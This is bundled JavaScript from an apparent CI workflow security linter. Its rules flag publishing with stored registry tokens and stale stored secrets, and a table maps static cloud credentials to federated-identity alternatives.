        const program = (0,shell/* programOf */.o)(command);
        return program !== undefined && uploaders.has(program.name)
            ? [{ program, assigned: (0,shell_variables/* assignmentsOf */.I7)(command), scalar: step.run, span: command.span }]
            : [];
    });
}
function byCommand(registry, uploads, scope) {
    return uploads.flatMap(({ program, assigned, scalar, span }) => {
        const by = registry.commands.find((text) => runs(program, text.split(' ')));
        if (by === undefined || isElsewhere(registry, scope))
            return [];
        const words = program.arguments;
        if (words.some(({ text }) => text === '--dry-run' || text === '--no-publish'))
            return [];
        if (registry.registryOptions.some((name) => publishing_isOther(registry, publishing_option(words, name) ?? '', scope)))
            return [];
        const tokens = registry.tokenOptions.flatMap((name) => {
            const text = publishing_option(words, name);
            return text === undefined ? [] : [{ text, place: `${by} ${name}` }];
        });
        const before = assigned.flatMap(([name, text]) => (registry.variables.includes(name.toUpperCase()) ? [{ text, place: name }] : []));
        return [{ registry, by, scalar, span, tokens: [...tokens, ...before], isGuess: false }];
    });
}
function runs(program, [name, ...verbs]) {
    if (program.name !== name)
        return false;
    let at = 0;
    for (const { text } of program.arguments)
        if (text === verbs[at])
            at += 1;
    return at === verbs.length;
}
function publishing_option(words, name) {
    const at = words.findIndex(({ text }) => text === name || text.startsWith(`${name}=`));
    const text = words[at]?.text;
    return text === name ? words[at + 1]?.text : text?.slice(name.length + 1);
}
function guessed(step) {
    const command = (0,run_commands/* runCommands */.a)(step.run).find((item) => item.words.some(({ text }) => /(?:^|[^a-z])(?:publish|release)(?:[^a-z]|$)/i.test(text)) && !isKnown((0,shell/* programOf */.o)(item)));
    if (command === undefined)
        return [];
    const by = (0,shell/* programOf */.o)(command)?.name ?? 'a script';
    return publishTokens.registries.map((registry) => ({ registry, by, scalar: step.run, span: command.span, tokens: [], isGuess: true }));
}
function isKnown(program) {
    if (program === undefined)
        return false;
    if (program.name === 'echo' || program.name === 'gh' || program.name === 'git')
        return true;
    return publishTokens.registries.some(({ commands }) => commands.some((text) => runs(program, text.split(' '))));
}
function isElsewhere(registry, scope) {
    const variables = registry.registryVariables.map((name) => scope.env.map((layer) => textOf(layer, name)).find((text) => text !== '') ?? '');
    const url = registry.name === 'npm' ? ((0,steps_before/* lastBefore */.k)(setupsOf(scope.before.steps), scope.before)?.url ?? '') : '';
    return [...variables, url].some((text) => publishing_isOther(registry, text, scope));
}
const setups = new WeakMap();
function setupsOf(steps) {
    const found = setups.get(steps) ??
        steps.flatMap((step, index) => {
            const url = step.kind === 'uses' && /^actions\/setup-node@/i.test(step.uses.scalar.value) ? textOf(step.with, 'registry-url') : '';
            return url === '' ? [] : [{ index, url }];
        });
    setups.set(steps, found);
    return found;
}
function publishing_isOther(registry, text, scope) {
    if (text.trim() === '')
        return false;
    const source = (0,value_source/* sourceOf */.v)(text, scope);
    const value = source.kind === 'literal' ? source.text.trim() : text;
    const host = /^(?:https?:)?\/\/([^/:]{1,300})/i.exec(value)?.[1] ?? value.replace(/\/.*$/, '');
    const isName = /^(?:pypi|npm|rubygems|crates-io|nuget(?:\.org)?)$/i.test(value);
    return !isName && !registry.host.test(host);
}

;// CONCATENATED MODULE: ./build/src/rules/support/static-use.js
const writtenSource = 'a value written in the file';
function isStatic(source) {
    return isStored(source) || (source.kind === 'literal' && looksLikeKey(source.text));
}
function isStaticInput(source) {
    return isStored(source) || (source.kind === 'literal' && (looksLikeKey(source.text) || looksLikePassword(source.text.trim())));
}
function isStored(source) {
    return source.kind === 'secret' || source.kind === 'variable';
}
function looksLikePassword(value) {
    return (/^\S{8,200}$/.test(value) &&
        /[A-Za-z]/.test(value) &&
        /\d/.test(value) &&
        !madeUp.test(value) &&
        !/[$<>]|^https?:|^\.{0,2}\//.test(value));
}
const madeUp = /test|dummy|fake|example|mock|local|minio|sample|changeme|placeholder|x{6}|0{8}|1234567/i;
function looksLikeKey(text) {
    const value = text.trim();
    if (value.length < 20 || value.length > 20_000)
        return false;
    if (isDrawn(value))
        return !/example/i.test(value);
    if (madeUp.test(value.slice(0, 4096)))
        return false;
    if (/^(?:\{|-----BEGIN|<publishData)/.test(value) || /AccountKey=[A-Za-z0-9/+]{40}/.test(value))
        return true;
    return /^[\w+=.~-]+$/.test(value) && /\d/.test(value) && /[a-z]/i.test(value);
}
function isDrawn(value) {
    if (!/^[A-Za-z0-9/+]{40,200}={0,2}$/.test(value) || !/[A-Z]/.test(value) || !/[a-z]/.test(value) || !/\d/.test(value))
        return false;
    return !value.startsWith('/') && value.split('/').some((part) => part.length >= 14);
}
function nameOfSource(source) {
    switch (source.kind) {
        case 'secret':
            return source.name === '*' ? 'a computed secret' : `secrets.${source.name}`;
        case 'variable':
            return source.name === '*' ? 'a computed variable' : `vars.${source.name}`;
        case 'literal':
            return writtenSource;
    }
}
function shownSource(source) {
    return /^(?:secrets|vars)\./.test(source) ? `\`${source}\`` : source;
}

;// CONCATENATED MODULE: ./build/src/rules/support/publish-tokens.js









function publish_tokens_publishTokens() {
    const written = new Map();
    const inScope = new Map();
    return (publishing, step, scope, file) => {
        const { registry, isGuess } = publishing;
        const own = ownToken(publishing, step, scope, file);
        if (own !== undefined || takesToken(publishing, step, scope))
            return own;
        const variable = remembered(inScope, step, registry, () => scopedToken(registry, isGuess, step, scope));
        if (variable !== undefined || isGuess)
            return variable && { ...variable, span: variable.span ?? spanOf(publishing, file) };
        const { steps, count } = scope.before;
        const found = remembered(written, steps, registry, () => publish_tokens_settingsOf(registry, scope, file));
        return (0,steps_before/* lastBefore */.k)(found, { steps, count: count + 1 });
    };
}
function scopedToken(registry, isGuess, step, scope) {
    const own = scriptToken(registry, step, scope) ?? variableToken(registry, isGuess ? scope.env.slice(0, 1) : scope.env, scope);
    return own ?? (isGuess ? undefined : variableAround(registry, scope));
}
function remembered(known, key, registry, look) {
    const values = known.get(key) ?? new Map();
    known.set(key, values);
    const found = values.get(registry) ?? { value: look() };
    values.set(registry, found);
    return found.value;
}
function ownToken(publishing, step, scope, file) {
    for (const { text, place, named } of publishing.tokens) {
        const source = ownSource(text, step, scope);
        if (isStatic(source))
            return { place, source: nameOfSource(source), span: named?.value.span ?? spanOf(publishing, file) };
    }
    return undefined;
}
function ownSource(text, step, scope) {
    if (step.kind !== 'run')
        return (0,value_source/* sourceOf */.v)(text, { ...scope, isScript: false });
    return (0,shell_variables/* isMinted */.E7)(text) ? { kind: 'output' } : (0,value_source/* sourceOf */.v)(text, { ...scope, isScript: true, script: step.run });
}
function takesToken({ tokens }, step, scope) {
    return tokens.some(({ text }) => !['empty', 'literal'].includes(ownSource(text, step, scope).kind));
}
function scriptToken(registry, step, scope) {
    if (step.kind !== 'run')
        return undefined;
    for (const place of registry.variables) {
        for (const text of (0,shell_variables/* assignedIn */.k8)(step.run, place)) {
            const source = (0,value_source/* sourceOf */.v)(text, { ...scope, isScript: true, script: step.run });
            if (isStatic(source))
                return { place, source: nameOfSource(source) };
        }
    }
    return undefined;
}
function variableAround(registry, scope) {
    const isSet = (name) => scope.env.some((layer) => (0,workflow_callers/* valueOf */.RP)(layer, name) !== undefined);
    for (const place of registry.variables.filter((name) => !isSet(name))) {
        const source = (0,value_source/* sourceOf */.v)(`\${${place}}`, { ...scope, env: [], isScript: true });
        if (isStatic(source))
            return { place, source: nameOfSource(source) };
    }
    return undefined;
}
function publish_tokens_settingsOf(registry, scope, file) {
    const { steps } = scope.before;
    return steps.flatMap((step, index) => {
        const token = step.kind === 'run' ? settingToken(registry, step, { ...scope, before: { steps, count: index } }, file) : undefined;
        return token === undefined ? [] : [{ ...token, index }];
    });
}
function spanOf({ scalar, span }, file) {
    return span === undefined ? scalar.span : (0,span_in_file/* spanInFile */.U)(file, scalar, span);
}
function variableToken(registry, layers, scope) {
    const seen = new Set();
    for (const [index, layer] of layers.entries()) {
        for (const { name, value } of layer) {
            const key = name.value.toUpperCase();
            if (!registry.variables.includes(key) || seen.has(key) || value.kind !== 'scalar')
                continue;
            seen.add(key);
            const source = (0,value_source/* sourceOf */.v)(value.value, { ...scope, env: scope.env.slice(index + 1), isScript: false });
            if (isStatic(source))
                return { place: name.value, source: nameOfSource(source), span: value.span };
        }
    }
    return undefined;
}
function settingToken(registry, step, scope, file) {
    const env = [step.env, ...scope.env.slice(1)];
    const script = { ...scope, env, isScript: true, script: step.run };
    const credentials = credentialsFile(registry, step.run.value, scope);
    for (const command of (0,run_commands/* runCommands */.a)(step.run)) {
        for (const [text, place] of settingsIn(command, step.run.value, registry, credentials)) {
            const host = /\/\/([^/\s]{1,300})\//.exec(text)?.[1];
            if (host !== undefined && publishing_isOther(registry, `//${host}`, scope))
                continue;
            const source = (0,value_source/* sourceOf */.v)(text, script);
            if (isStatic(source) && source.kind !== 'literal') {
                return { place, source: nameOfSource(source), span: (0,span_in_file/* spanInFile */.U)(file, step.run, command.span) };
            }
        }
    }
    return undefined;
}
function settingsIn(command, script, registry, credentials) {
    const found = [];
    const lines = printedLines(command, script);
    for (const [index, text] of lines.entries()) {
        const setting = registry.settings.find((name) => text.includes(name));
        if (setting !== undefined)
            found.push([`${text} ${lines[index + 1] ?? ''}`, setting]);
    }
    const texts = command.words.map(({ text }) => text);
    if (registry.name === 'crates.io' && texts[0] === 'cargo' && texts[1] === 'login' && texts[2] !== undefined)
        found.push([texts[2], 'cargo login']);
    if (credentials === undefined || !isPrinter(command))
        return found;
    return [...found, ...lines.map((text) => [text, credentials])];
}
function credentialsFile(registry, script, scope) {
    const name = registry.files.find((one) => script.includes(one));
    if (name === undefined || /\[(?:pypi|registry)\]/.test(script))
        return name;
    const hosts = new Set([...script.matchAll(/https?:\/\/[^/\s"']{1,300}/gi)].map(([url]) => url.toLowerCase()));
    return hosts.size > 0 && [...hosts].every((url) => publishing_isOther(registry, url, scope)) ? undefined : name;
}

;// CONCATENATED MODULE: ./build/src/rules/secret/publish-token.js







/* harmony default export */ const publish_token = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/publish-token',
        title: 'Packages are published by the identity of the workflow, not with a stored token',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['merge', 'deploy', 'posture'],
        presets: { recommended: 'warn', strict: 'deny' },
        unknown: { merge: 'warn', deploy: 'warn', posture: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI7:2025' },
            { framework: 'OWASP-NHI', id: 'NHI4:2025' },
            { framework: 'OWASP-NHI', id: 'NHI1:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-CSF', id: 'PR.AA-03' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PO.5.1' },
        ],
        rationale: 'Whoever reads a publish token can release in the name of the project, from anywhere and for as long as it lives. Shai-Hulud (September ' +
            '2025) spread from package to package with the npm tokens that it found; ultralytics was published twice more in December 2024 with a ' +
            'PyPI token that nobody had revoked; cline 2.3.0 (February 2026) went out with a stolen release token. npm, PyPI, RubyGems, crates.io and ' +
            'NuGet take a package from a named workflow without any stored token. `id-token: write` for provenance alone does not change how ' +
            'the package is published, and does not silence this rule.',
        remediation: 'Set up trusted publishing at the registry, publish without the token, then revoke the token there and delete its secret.',
        messages: {
            token: '`{by}` publishes to {registry} with a stored token: `{place}` is {from}. Instead, {federated}',
            script: '`{by}` seems to publish to {registry} with a stored token: `{place}` is {from}. Instead, {federated}',
        },
        examples: [
            {
                title: 'A token for npm, beside provenance',
                files: {
                    '.github/workflows/release.yml': `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - run: npm publish --provenance
        env:
          NODE_AUTH_TOKEN: \${{ secrets.NPM_TOKEN }}
`,
                },
                expect: [{ message: 'token', path: '.github/workflows/release.yml', line: 10 }],
            },
            {
                title: 'Trusted publishing to npm and PyPI',
                files: {
                    '.github/workflows/release.yml': `on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    environment: release
    permissions:
      id-token: write
    steps:
      - run: npm publish
      - uses: pypa/gh-action-pypi-publish@release/v1
`,
                },
                expect: [],
            },
        ],
        options: {},
        key: ['registry', 'place', 'source'],
    },
    needs: ['workflows', 'actions'],
    evaluate({ workflows, actions }) {
        const callers = (0,workflow_callers/* callerSources */.qI)(workflows.items, actions.items);
        const sites = [...workflows.items.flatMap(step_site/* stepSites */.PX), ...actions.items.flatMap(step_site/* actionSites */.nd)];
        const tokenOf = publish_tokens_publishTokens();
        const seen = new Set();
        return sites
            .flatMap((site) => ofStep(site, callers, tokenOf))
            .filter(({ location, data }) => {
            const key = `${location.path} ${location.start.line} ${location.start.column} ${data.registry}`;
            if (seen.has(key))
                return false;
            seen.add(key);
            return true;
        });
    },
}));
function ofStep(site, callers, tokenOf) {
    const { step, file, env, before } = site;
    const scope = {
        env,
        before,
        ...callers(file),
        isScript: false,
    };
    return publishingsOf(step, scope).flatMap((publishing) => {
        const token = tokenOf(publishing, step, scope, file);
        if (token === undefined)
            return [];
        const { registry, by, isGuess } = publishing;
        return [
            {
                kind: 'violation',
                message: isGuess ? 'script' : 'token',
                data: {
                    by,
                    registry: registry.name,
                    place: token.place,
                    source: token.source,
                    from: shownSource(token.source),
                    federated: registry.federated,
                },
                location: (0,locate/* locate */.x5)(file, token.span),
                related: [{ location: (0,locate/* locate */.x5)(file, spanOf(publishing, file)), message: `\`${by}\` publishes here` }],
                confidence: isGuess ? 'medium' : 'high',
            },
        ];
    });
}

;// CONCATENATED MODULE: ./build/src/rules/secret/stale.js


const day = 24 * 60 * 60 * 1000;
const secret = { name: 'DEPLOY_KEY', store: 'repository', createdAt: '2024-01-10T08:00:00Z', updatedAt: '2024-01-10T08:00:00Z' };
const stale_scene = { now: '2026-11-23T10:00:00.000Z' };
/* harmony default export */ const stale = ((0,define_rule/* defineRule */.K)({
    meta: {
        id: 'secret/stale',
        title: 'Stored secrets are changed in time, and after an incident',
        severity: 'medium',
        lifecycle: 'stable',
        since: '0.1.0',
        stages: ['posture', 'deploy'],
        presets: { recommended: { posture: 'warn', merge: 'off', deploy: 'warn' }, strict: { posture: 'deny', merge: 'off', deploy: 'warn' } },
        unknown: { posture: 'warn', merge: 'warn', deploy: 'warn' },
        controls: [
            { framework: 'OWASP-NHI', id: 'NHI7:2025' },
            { framework: 'OWASP-NHI', id: 'NHI1:2025' },
            { framework: 'NIST-CSF', id: 'PR.AA-01' },
            { framework: 'NIST-800-207', id: 'T3' },
            { framework: 'OWASP-CICD', id: 'CICD-SEC-6' },
            { framework: 'SSDF', id: 'PO.5.2' },
        ],
        rationale: 'A stored secret is valid until somebody changes it, whoever has seen it since: a log, a fork, a laptop, someone who left. Nobody notices a copy. After an incident everything that was stored before is in the hands of whoever was there, however young it is. Only names and dates are read, with the token of an App in `admin-token`; a store that the App may not list is named and left undecided. A value can be read by nobody.',
        remediation: 'Put a new value in the place of `{secret}` and revoke the old one; better, take a short-lived credential by the identity of the job, and delete the secret. Clean a compromised machine before you revoke what was on it.',
        messages: {
            old: 'Secret `{secret}` of {place} was last changed {age} days ago, and the policy allows {maximum}. Put a new value in its place',
            'before-incident': 'Secret `{secret}` of {place} was last changed {age} days ago, before the incident of {incident}. Put a new value in its place',
        },
        examples: [
            {
                title: 'A secret that nobody changed for years',
                files: {},
                facts: { scene: stale_scene, storedSecrets: { items: [secret], gaps: [] } },
                expect: [{ message: 'old' }],
            },
            {
                title: 'A young secret that was there at the incident',
                files: {},
                facts: { scene: stale_scene, storedSecrets: { items: [{ ...secret, updatedAt: '2026-11-01T08:00:00Z' }], gaps: [] } },
                options: { 'incident-date': '2026-11-10' },
                expect: [{ message: 'before-incident' }],
            },
            {
                title: 'One that was changed in time',
                files: {},
                facts: { scene: stale_scene, storedSecrets: { items: [{ ...secret, updatedAt: '2026-11-01T08:00:00Z' }], gaps: [] } },
                expect: [],
            },
        ],
        options: {
            'max-age-days': {
                type: 'integer',
                default: 90,
                minimum: 1,
                description: 'Days after which a secret must have been changed',
                stricter: 'less',
            },
            'incident-date': {
                type: 'string',
                default: '',
                description: 'Date of an incident, as YYYY-MM-DD or with a time in UTC: what was last changed before it is stale however young it is',
            },
        },
        key: ['secret', 'store', 'environment'],
    },
    needs: ['storedSecrets', 'scene'],
    evaluate({ storedSecrets, scene }, { 'max-age-days': maximum, 'incident-date': incident }) {
        const since = incident === '' ? undefined : timeOf(incident);
        const now = Date.parse(scene.now);
        const found = storedSecrets.items.flatMap((one) => stale_judge(one, { now, maximum, incident, since }) ?? []);
        return incident !== '' && since === undefined ? [...found, wrongDate(incident)] : found;
    },
}));
function stale_judge(stored, { now, maximum, incident, since }) {
    const { name, store, environment = '', updatedAt } = stored;
    const changed = timeOf(updatedAt);
    const place = stale_placeOf(stored);
    if (changed === undefined)
        return undated(name, place);
    const isBefore = since !== undefined && changed < since;
    if (!isBefore && now - changed <= maximum * day)
        return undefined;
    return {
        kind: 'violation',
        message: isBefore ? 'before-incident' : 'old',
        data: { secret: name, store, environment, place, age: String(Math.floor((now - changed) / day)), maximum: String(maximum), incident },
        location: { object: 'secret', name: environment === '' ? `${store} ${name}` : `${store} ${environment} ${name}` },
    };
}
function timeOf(text) {
    if (!/^\d{4}-\d{2}-\d{2}(?:T\d{2}:\d{2}:\d{2}(?:\.\d+)?Z)?$/.test(text))
        return undefined;
    const time = Date.parse(text);
    return Number.isNaN(time) || !new Date(time).toISOString().startsWith(text.slice(0, 10)) ? undefined : time;
}
function stale_placeOf({ store, environment }) {
    switch (store) {
        case 'environment':
            return `environment \`${environment ?? ''}\``;
        case 'repository':
            return 'the repository';
        case 'organisation':
            return 'the organisation';
        case 'dependabot':
            return 'Dependabot';
        case 'agent':
            return 'coding agents';
    }
}
function undated(name, place) {
    return (0,core_facts/* gap */.rQ)({
        item: `secret ${name} of ${place}`,
        cause: 'invalid',
        why: 'when it was last changed is no date',
        remedy: 'change it, and run the job again',
    });
}
function wrongDate(incident) {
    return (0,core_facts/* gap */.rQ)({
        item: 'option incident-date',
        cause: 'invalid',
        why: `'${incident}' is no date`,
        remedy: 'write it as YYYY-MM-DD, or as YYYY-MM-DDTHH:MM:SSZ',
    });
}

;// CONCATENATED MODULE: ./build/src/data/static-credentials.js
const staticCredentials = {
    aws: {
        name: 'an AWS access key',
        federated: 'give aws-actions/configure-aws-credentials `role-to-assume` and `aws-region`, without any key, in a job with `permissions: {id-token: write}`',
    },
    ecr: {
        name: 'an AWS access key for a container registry',
        federated: 'assume a role with aws-actions/configure-aws-credentials (`role-to-assume`, `permissions: {id-token: write}`), then log in with aws-actions/amazon-ecr-login',
    },
    google: {
        name: 'a Google service account key',
        federated: 'give google-github-actions/auth `workload_identity_provider` (and `service_account`), without `credentials_json`, in a job with `permissions: {id-token: write}`',
    },
    gar: {
        name: 'a Google service account key for a container registry',
        federated: 'use google-github-actions/auth with `workload_identity_provider` and `token_format: access_token`, and log in as `oauth2accesstoken` with its output `access_token`',
    },
    azure: {
        name: 'an Azure client secret',
        federated: 'give azure/login `client-id`, `tenant-id` and `subscription-id`, without `creds`, in a job with `permissions: {id-token: write}`, and add a federated credential to the application',
    },
    azureStorage: {
        name: 'an Azure storage key',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`) and use that identity (`use_azuread_auth`, `--auth-mode login`)',
    },
    azureOidcProvider: {
        name: 'an Azure client secret',
        federated: 'set `ARM_USE_OIDC: true` with `ARM_CLIENT_ID` and `ARM_TENANT_ID`, in a job with `permissions: {id-token: write}`',
    },
    azurePublish: {
        name: 'an Azure publish profile',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`) first and leave `publish-profile` out',
    },
    acr: {
        name: 'a password of an Azure container registry',
        federated: 'log in with azure/login (`client-id`, `tenant-id`, `subscription-id`), then run `az acr login --name REGISTRY`',
    },
    ghcr: {
        name: 'a personal access token for a container registry',
        federated: 'log in with `${{ github.token }}` in a job with `permissions: {packages: write}`; it ends with the job',
    },
    vault: {
        name: 'a static Vault credential',
        federated: 'give hashicorp/vault-action `method: jwt` and `role`, in a job with `permissions: {id-token: write}`',
    },
    infisical: {
        name: 'an Infisical client secret',
        federated: 'give Infisical/secrets-action `method: oidc` and `identity-id`, in a job with `permissions: {id-token: write}`',
    },
    doppler: {
        name: 'a Doppler token',
        federated: 'give DopplerHQ/secrets-fetch-action `auth-method: oidc` and `doppler-identity-id`, in a job with `permissions: {id-token: write}`',
    },
    akeyless: {
        name: 'an Akeyless access key',
        federated: 'give akeyless-community/akeyless-github-action `access-type: jwt` and `access-id`, in a job with `permissions: {id-token: write}`',
    },
    conjur: {
        name: 'a Conjur API key',
        federated: 'give cyberark/conjur-action `authn_id`, without `api_key`, in a job with `permissions: {id-token: write}`',
    },
    jfrog: {
        name: 'a JFrog access token or password',
        federated: 'give jfrog/setup-jfrog-cli `oidc-provider-name`, in a job with `permissions: {id-token: write}`',
    },
    pulumi: {
        name: 'a Pulumi access token',
        federated: 'use pulumi/auth-actions with `organization` and `requested-token-type`, in a job with `permissions: {id-token: write}`',
    },
    alibaba: {
        name: 'an Alibaba Cloud access key',
        federated: 'give aliyun/configure-aliyun-credentials-action `role-to-assume` and `oidc-provider-arn`, in a job with `permissions: {id-token: write}`',
    },
    tailscale: {
        name: 'a Tailscale key',
        federated: 'give tailscale/github-action `oauth-client-id` and `audience`, without a secret, in a job with `permissions: {id-token: write}`',
    },
    cosign: {
        name: 'a signing key',
        federated: 'sign without a key (`cosign sign --yes IMAGE@DIGEST`, in a job with `permissions: {id-token: write}`), or by a key service (`--key awskms://...`)',
    },
};
const staticCredentialTables = {
    asOf: '2026-09-01',
    inputs: [
        { actions: ['aws-actions/configure-aws-credentials'], credential: 'aws', inputs: ['aws-secret-access-key'] },
        { actions: ['google-github-actions/auth'], credential: 'google', inputs: ['credentials_json'] },
        {
            actions: [
                'google-github-actions/setup-gcloud',
                'google-github-actions/get-secretmanager-secrets',
                'google-github-actions/deploy-cloudrun',
                'google-github-actions/deploy-appengine',
                'google-github-actions/deploy-cloud-functions',
                'google-github-actions/upload-cloud-storage',
                'google-github-actions/get-gke-credentials',
            ],
            credential: 'google',
            inputs: ['service_account_key', 'credentials', 'credentials_json'],
        },
        {
            actions: ['azure/login'],
            credential: 'azure',
            inputs: ['creds'],
            unless: [
                { input: 'client-id', is: [] },
                { input: 'tenant-id', is: [] },
                { input: 'subscription-id', is: [] },
                { input: 'auth-type', is: ['identity'] },
            ],
        },
        { actions: ['azure/webapps-deploy', 'azure/functions-action'], credential: 'azurePublish', inputs: ['publish-profile'] },
        {
            actions: ['azure/container-apps-deploy-action'],
            credential: 'azure',
            inputs: ['azurecredentials'],
        },
        {
            actions: ['hashicorp/vault-action'],
            credential: 'vault',
            inputs: ['token', 'secretid', 'githubtoken', 'password', 'clientkey'],
            unless: [{ input: 'method', is: ['jwt', 'kubernetes', 'aws', 'azure', 'gcp', 'oidc'] }],
        },
        { actions: ['hashicorp/vault-action'], credential: 'vault', inputs: ['jwtprivatekey'] },
        {
            actions: ['infisical/secrets-action'],
            credential: 'infisical',
            inputs: ['client-secret'],
            unless: [{ input: 'method', is: ['oidc', 'aws-iam'] }],
        },
        {
            actions: ['dopplerhq/secrets-fetch-action'],
            credential: 'doppler',
            inputs: ['doppler-token'],
            unless: [{ input: 'auth-method', is: ['oidc'] }],
        },
        { actions: ['akeyless-community/akeyless-github-action'], credential: 'akeyless', inputs: ['access-key', 'token'] },
        { actions: ['cyberark/conjur-action'], credential: 'conjur', inputs: ['api_key'] },
        { actions: ['aliyun/configure-aliyun-credentials-action'], credential: 'alibaba', inputs: ['access-key-secret'] },
        { actions: ['tailscale/github-action'], credential: 'tailscale', inputs: ['authkey', 'oauth-secret'] },
    ],
    anyActionInputs: [
        {
            actions: [],
            credential: 'aws',
            inputs: ['aws-secret-access-key', 'aws_secret_access_key', 'aws-secret-key', 'aws_secret_key', 'awssecretaccesskey'],
        },
    ],
    variables: [
        { credential: 'aws', names: ['AWS_SECRET_ACCESS_KEY', 'AWS_SECRET_KEY'] },
        {
            credential: 'google',
            names: [
                'GOOGLE_CREDENTIALS',
                'GOOGLE_APPLICATION_CREDENTIALS',
                'GOOGLE_APPLICATION_CREDENTIALS_JSON',
                'GOOGLE_CLOUD_KEYFILE_JSON',
                'GOOGLE_SERVICE_ACCOUNT_KEY',
                'GCLOUD_SERVICE_KEY',
                'GCLOUD_KEYFILE_JSON',
                'GCP_SA_KEY',
                'GCP_CREDENTIALS',
                'GCP_SERVICE_ACCOUNT_KEY',
            ],
        },
        { credential: 'azure', names: ['AZURE_CLIENT_SECRET', 'AZURE_CREDENTIALS', 'AZURE_CLIENT_CERTIFICATE_PASSWORD'] },
        { credential: 'azureOidcProvider', names: ['ARM_CLIENT_SECRET', 'ARM_CLIENT_CERTIFICATE', 'ARM_CLIENT_CERTIFICATE_PASSWORD'] },
        {
            credential: 'azureStorage',
            names: ['ARM_ACCESS_KEY', 'ARM_SAS_TOKEN', 'AZURE_STORAGE_KEY', 'AZURE_STORAGE_ACCOUNT_KEY', 'AZURE_STORAGE_CONNECTION_STRING'],
        },
        { credential: 'vault', names: ['VAULT_TOKEN', 'VAULT_SECRET_ID'] },
        { credential: 'infisical', names: ['INFISICAL_CLIENT_SECRET', 'INFISICAL_UNIVERSAL_AUTH_CLIENT_SECRET', 'INFISICAL_TOKEN'] },
        { credential: 'doppler', names: ['DOPPLER_TOKEN'] },
        { credential: 'akeyless', names: ['AKEYLESS_ACCESS_KEY'] },
        { credential: 'conjur', names: ['CONJUR_AUTHN_API_KEY'] },
        { credential: 'jfrog', names: ['JF_ACCESS_TOKEN', 'JF_PASSWORD', 'JFROG_CLI_ACCESS_TOKEN'] },
        { credential: 'pulumi', names: ['PULUMI_ACCESS_TOKEN'] },
        { credential: 'alibaba', names: ['ALICLOUD_SECRET_KEY', 'ALIBABA_CLOUD_ACCESS_KEY_SECRET', 'ALIYUN_ACCESS_KEY_SECRET'] },
        { credential: 'cosign', names: ['COSIGN_PRIVATE_KEY'] },
    ],
    registryLogins: [
        { action: 'docker/login-action', registry: 'registry', user: 'username', password: 'password' },
        { action: 'redhat-actions/podman-login', registry: 'registry', user: 'username', password: 'password' },
        { action: 'redhat-actions/push-to-registry', registry: 'registry', user: 'username', password: 'password' },
        { action: 'azure/docker-login', registry: 'login-server', user: 'username', password: 'password' },
    ],
};
const registryCredentials = [
    { host: /(?:^|\.)dkr[.-]ecr(?:-fips)?\.[^/]{0,100}(?:amazonaws\.com(?:\.cn)?|on\.aws)$|^public\.ecr\.aws$/i, credential: 'ecr' },
    { host: /(?:^|\.)azurecr\.(?:io|cn|us)$/i, credential: 'acr' },
    { host: /-docker\.pkg\.dev$|(?:^|\.)gcr\.io$/i, credential: 'gar' },
    { host: /(?:^|\.)jfrog\.io$/i, credential: 'jfrog' },
    { host: /^(?:ghcr\.io|docker\.pkg\.github\.com)$/i, credential: 'ghcr' },
];

;// CONCATENATED MODULE: ./build/src/rules/support/credential-inputs.js




function credentialInputs(step, scope) {
    const target = step.uses.target;
    if (target.kind !== 'repository')
        return [];
    const action = `${target.owner}/${target.name}`.toLowerCase();
    const listed = staticCredentialTables.inputs.filter((row) => row.actions.includes(action));
    const rows = listed.length > 0 ? listed : staticCredentialTables.anyActionInputs;
    const uses = rows.flatMap((row) => credential_inputs_ofRow(row, step, scope));
    for (const login of staticCredentialTables.registryLogins) {
        if (login.action === action)
            uses.push(...ofLogin(login, step, scope));
    }
    return uses;
}
function credential_inputs_ofRow(row, step, scope) {
    if (row.unless?.some(({ input, is }) => isGiven(step.with, input, is)) === true)
        return [];
    for (const input of row.inputs) {
        const given = credential_inputs_scalarOf(step.with, input);
        if (given === undefined || isForeignStore(row.credential, [step.with, step.env, ...scope.env]))
            continue;
        const source = (0,value_source/* sourceOf */.v)(given.value, scope);
        const isTaken = row.actions.length > 0 ? isStaticInput : isStatic;
        if (isTaken(source))
            return [use(row.credential, input, nameOfSource(source), given, row.actions.length > 0)];
    }
    return [];
}
function use(credential, place, source, scalar, isListed) {
    const isOwnRegistry = credential === 'ghcr';
    return {
        how: 'input',
        credential,
        place,
        source,
        span: scalar.span,
        severity: isOwnRegistry ? 'medium' : 'high',
        confidence: isOwnRegistry || !isListed ? 'medium' : 'high',
    };
}
function isGiven(named, input, is) {
    const value = credential_inputs_scalarOf(named, input)?.value.trim().toLowerCase() ?? '';
    return value !== '' && (is.length === 0 || is.includes(value));
}
function credential_inputs_scalarOf(named, input) {
    const value = (0,workflow_callers/* valueOf */.RP)(named, input);
    return value?.kind === 'scalar' ? value : undefined;
}
function isForeignStore(credential, layers) {
    if (credential !== 'aws')
        return false;
    return layers.some((layer) => layer.some(({ name, value }) => /endpoint/i.test(name.value) && value.kind === 'scalar' && value.value.trim() !== '' && !/amazonaws\.com/i.test(value.value)));
}
function ofLogin(login, step, scope) {
    const password = credential_inputs_scalarOf(step.with, login.password);
    const registry = credential_inputs_scalarOf(step.with, login.registry)?.value ?? '';
    const user = credential_inputs_scalarOf(step.with, login.user)?.value ?? '';
    const single = password === undefined ? undefined : registryUse(registry, user, password.value, scope);
    const uses = single === undefined || password === undefined ? [] : [use(single.credential, login.password, single.source, password, true)];
    const list = credential_inputs_scalarOf(step.with, 'registry-auth');
    if (list === undefined)
        return uses;
    const found = new Map();
    for (const entry of list.value.split(/^[ \t]*-[ \t]/m).slice(1)) {
        const value = (key) => new RegExp(`^[ \\t]*${key}:[ \\t]*["']?([^\\n]{0,1000}?)["']?[ \\t]*$`, 'm').exec(entry)?.[1] ?? '';
        const one = registryUse(value('registry'), value('username'), value('password'), scope);
        if (one !== undefined && !found.has(one.credential))
            found.set(one.credential, use(one.credential, 'registry-auth', one.source, list, true));
    }
    return [...uses, ...found.values()];
}
function imageCredential(container, scope) {
